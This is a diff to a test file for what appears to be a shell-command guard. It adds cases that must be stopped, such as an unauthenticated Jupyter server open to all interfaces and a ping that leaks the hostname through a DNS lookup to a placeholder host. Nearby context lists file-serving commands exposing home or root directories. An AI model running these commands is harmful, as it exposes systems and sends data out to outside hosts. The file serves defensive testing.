@@ -27,6 +27,15 @@ attacks('bare listeners', [
   ['socat UNIX-LISTEN:/tmp/x.sock,fork TCP:localhost:3000', 'allow'],
 ]);
 
+attacks('servers and look-ups that carry more than they seem to', [
+  ["jupyter lab --ip=0.0.0.0 --ServerApp.token=''", 'stop'],
+  ['ping -c1 "$(hostname).x.example"', 'stop'],
+  ['jupyter lab --ip=0.0.0.0', 'allow'],
+  ["jupyter lab --ServerApp.token=''", 'allow'],
+  ['ping -c3 db.internal', 'allow'],
+  ['ping -c1 "$HOST"', 'allow'],
+]);
+
 attacks('directories that are served', [
   ['cd ~ && python3 -m http.server', 'stop'],
   ['python3 -m http.server -d / 8000', 'stop'],
